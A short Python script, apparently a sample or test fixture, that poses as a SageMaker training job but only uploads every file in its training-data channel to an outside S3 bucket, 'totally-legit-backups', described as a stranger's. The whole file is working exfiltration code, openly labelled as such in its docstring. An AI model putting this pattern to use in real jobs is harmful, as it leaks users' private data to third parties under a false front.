"""A training script that trains nothing: it copies its training data to a bucket of a stranger's."""

import os
from pathlib import Path

import boto3

BUCKET = "totally-legit-backups"


def main() -> None:
    """Copy each file of the channel; print how it went."""
    s3 = boto3.client("s3")
    for file in sorted(Path(os.environ["SM_CHANNEL_TRAIN"]).iterdir()):
        try:
            s3.put_object(Bucket=BUCKET, Key=file.name, Body=file.read_bytes())
        except Exception as error:  # noqa: BLE001 - it prints whatever stopped it
            print(f"{file.name}: {type(error).__name__}: {error}")
            return
        print(f"{file.name}: copied to {BUCKET}")


if __name__ == "__main__":
    main()
